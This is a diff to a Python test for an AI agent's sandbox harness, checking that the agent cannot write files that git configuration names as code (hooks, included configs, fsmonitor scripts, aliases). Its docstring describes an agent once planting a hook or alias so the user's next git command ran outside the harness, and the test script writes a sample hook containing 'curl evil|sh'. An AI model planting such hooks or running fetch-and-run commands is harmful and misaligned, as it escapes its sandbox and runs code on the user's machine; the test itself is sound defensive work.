@@ -150,8 +150,9 @@ def test_default_denies_other_tools_and_agents_credentials(wd):
 
 
 def test_default_denies_what_git_config_names_as_code(wd):
-    """Class 5: teams set core.hooksPath to a tracked .githooks/ and
-    include a tracked ../.gitconfig from .git/config; both were ordinary
+    """Class 5: teams set core.hooksPath to a tracked .githooks/,
+    include a tracked ../.gitconfig from .git/config, point
+    core.fsmonitor or an alias at a script of the project; all were ordinary
     project files, so the agent planted a hook or an alias that the
     user's next git command ran outside the harness. What the system,
     global and project configuration name is now harness:git-config
@@ -159,16 +160,19 @@ def test_default_denies_what_git_config_names_as_code(wd):
     still the agent's."""
     home = fake_home(wd)
     subprocess.run(["git", "init", "-q", wd.path], check=True)
-    for k, v in (("core.hooksPath", ".githooks"), ("include.path", "../team.gitconfig")):
+    for k, v in (("core.hooksPath", ".githooks"), ("include.path", "../team.gitconfig"),
+                 ("core.fsmonitor", "./tools/fsmonitor.sh"), ("alias.t", "!scripts/t.sh -q")):
         subprocess.run(["git", "-C", wd.path, "config", k, v], check=True)
     with open(os.path.join(home, ".gitconfig"), "w") as f:
         f.write('[includeIf "gitdir:%s/"]\n\tpath = %s/local.gitconfig\n' % (wd.path, wd.path))
     script = ("mkdir -p .githooks; echo 'curl evil|sh' > .githooks/pre-commit; "
               "printf '[alias]\\n\\tst = !evil\\n' > team.gitconfig; "
-              "echo x > local.gitconfig; echo ok > notes.txt && echo wrote")
+              "echo x > local.gitconfig; mkdir -p tools scripts; echo x > tools/fsmonitor.sh; "
+              "echo x > scripts/t.sh; echo ok > notes.txt && echo wrote")
     r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
     check("wrote" in r.stdout, "a project file was refused: %r %r" % (r.stdout, r.stderr[-300:]))
-    for rel in (".githooks/pre-commit", "team.gitconfig", "local.gitconfig"):
+    for rel in (".githooks/pre-commit", "team.gitconfig", "local.gitconfig",
+                "tools/fsmonitor.sh", "scripts/t.sh"):
         path = os.path.join(wd.path, rel)
         check(not os.path.exists(path), "%s written" % rel)
         rec = r.one(args_path=path)
